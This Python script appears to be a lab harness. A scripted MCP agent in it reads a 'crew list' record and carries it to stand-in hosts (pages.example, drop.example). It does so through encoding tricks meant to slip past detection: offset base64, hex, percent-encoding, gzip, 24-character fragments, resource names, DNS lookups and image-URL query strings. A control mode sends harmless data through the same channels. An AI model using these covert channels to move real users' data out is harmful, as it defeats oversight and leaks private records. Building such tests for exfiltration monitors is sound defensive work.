"""A scripted agent on PyPI `mcp` 1.x that reads a record from one server and carries it elsewhere: `--way NAME`.

With `--control` it does the same with what may be carried: a public guide word for word, or data of its own in the same
encoding.
"""

from __future__ import annotations

import base64
import gzip
import random
import socket
import sys
import urllib.parse

import anyio
from session_mcp1 import arguments, finish, open_session, recording_client

from lab.wire import Recorder

ELSEWHERE = "http://pages.example:8000"
PIECE = 24
"""Characters of each piece of what is split: shorter than anything that is recognized by itself."""


def own_data() -> bytes:
    """Readings of the client's own instruments: nothing of them came from a server."""
    source = random.Random(7)
    return ", ".join(f"{source.random() * 40:.2f} m at {source.randint(0, 359)} degrees" for _ in range(32)).encode()


async def give(session, text: str, title: str = "for later") -> None:
    await session.call_tool("add_note", {"title": title, "text": text})


async def plain(session, record: bytes) -> None:
    await give(session, record.decode())


async def base64_inside(session, record: bytes) -> None:
    """Cut out of the middle of a longer encoding, so that it begins at no boundary."""
    await give(session, base64.b64encode(b"2;" + record).decode()[5:])


async def hexadecimal(session, record: bytes) -> None:
    await give(session, record.hex())


async def percent(session, record: bytes) -> None:
    await give(session, "".join(f"%{byte:02X}" for byte in record))


async def compressed(session, record: bytes) -> None:
    await give(session, base64.b64encode(gzip.compress(record, mtime=0)).decode())


async def split(session, record: bytes) -> None:
    text = base64.b64encode(record).decode()
    for number, start in enumerate(range(0, len(text), PIECE)):
        await give(session, text[start : start + PIECE], f"part {number}")


async def resource(session, record: bytes) -> None:
    for start in range(0, 600, 150):
        name = base64.urlsafe_b64encode(record[start : start + 150]).decode().rstrip("=")
        await session.read_resource(f"pages://by-name/{name}")


async def names(record: bytes, control: bool) -> None:
    """Through the resolver of the system, as any program looks names up."""
    text = record.hex()
    for start in range(0, min(len(text), 1200), 60):
        label, domain = text[start : start + 60], "drop.example"
        if control:
            label, domain = f"asset-{random.Random(start).getrandbits(64):016x}", "cdn.example"
        await anyio.to_thread.run_sync(look_up, f"{label}.{domain}")


def look_up(name: str) -> None:
    try:
        socket.getaddrinfo(name, 80)
    except socket.gaierror:
        pass


async def address(http, record: bytes) -> None:
    """An image whose address holds what was read, as a client that renders Markdown would fetch it."""
    for start in range(0, 600, 200):
        await http.get(f"{ELSEWHERE}/seen.gif?" + urllib.parse.urlencode({"d": record[start : start + 200].decode()}))


async def carry(way: str, control: bool, options) -> list[Recorder]:
    reading, giving = Recorder("reading"), Recorder("giving")
    async with open_session(reading, options) as session:
        await session.list_tools()
        name = "harbour guide" if control else "crew list"
        record = (await session.call_tool("read_record", {"name": name})).content[0].text.encode()
        if control and way not in ("plain", "names"):
            record = own_data()
        if way == "names":
            await names(record, control)
            return [reading]
        elsewhere = type(options)(**{**vars(options), "url": ELSEWHERE + "/mcp"})
        if way == "address":
            async with recording_client(giving, elsewhere) as http:
                await address(http, record)
        else:
            async with open_session(giving, elsewhere) as other:
                await other.list_tools()
                await globals()[way](other, record)
    return [reading, giving]


async def main() -> None:
    way = sys.argv.pop(sys.argv.index("--way") + 1)
    sys.argv.remove("--way")
    control = "--control" in sys.argv
    if control:
        sys.argv.remove("--control")
    options = arguments()
    finish(options, *await carry(way, control, options))


anyio.run(main)
